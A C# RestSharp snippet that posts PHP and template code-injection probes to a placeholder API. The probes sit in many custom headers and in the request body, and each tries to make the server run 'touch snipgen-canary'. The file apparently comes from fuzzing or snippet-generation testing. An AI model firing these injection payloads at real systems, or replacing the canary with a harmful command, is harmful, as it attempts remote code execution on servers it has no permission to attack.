using System;
using RestSharp;

using var client = new RestClient();
var request = new RestRequest("https://api.example.com/run", Method.Post);
request.AddHeader("X-Try-1", "{${touch('snipgen-canary')}}");
request.AddHeader("X-Try-2", "'.touch('snipgen-canary').'");
request.AddHeader("X-Try-3", "\".touch(\"snipgen-canary\").\"");
request.AddHeader("X-Try-4", "{$_SERVER[touch(\"snipgen-canary\")]}");
request.AddHeader("X-Try-5", "$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}");
request.AddHeader("X-Try-6", "?><?php touch('snipgen-canary'); ?>");
request.AddHeader("X-Try-7", "*/ touch('snipgen-canary'); /*");
request.AddHeader("X-Try-8", "// ?><?= touch('snipgen-canary') ?>");
request.AddHeader("X-Try-9", "\\'.touch('snipgen-canary').\\'");
request.AddHeader("X-Try-10", "\\\\'.touch('snipgen-canary').\\\\'");
request.AddHeader("X-Try-11", "`touch snipgen-canary`");
request.AddHeader("X-Try-12", "<%= touch %>");
request.AddHeader("X-Try-15", "\\");
request.AddStringBody(@"{${touch('snipgen-canary')}}
'.touch('snipgen-canary').'
"".touch(""snipgen-canary"").""
{$_SERVER[touch(""snipgen-canary"")]}
$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}
?><?php touch('snipgen-canary'); ?>
*/ touch('snipgen-canary'); /*
// ?><?= touch('snipgen-canary') ?>
\'.touch('snipgen-canary').\'
\\'.touch('snipgen-canary').\\'
`touch snipgen-canary`
<%= touch %>

EOT
.touch('snipgen-canary').<<<EOT


EOF;
touch('snipgen-canary');

\", "text/plain");
request.AddHeader("Content-Type", "text/plain");

var response = await client.ExecuteAsync(request);
if (response.StatusCode == 0)
{
    throw response.ErrorException;
}
Console.WriteLine(response.Content);
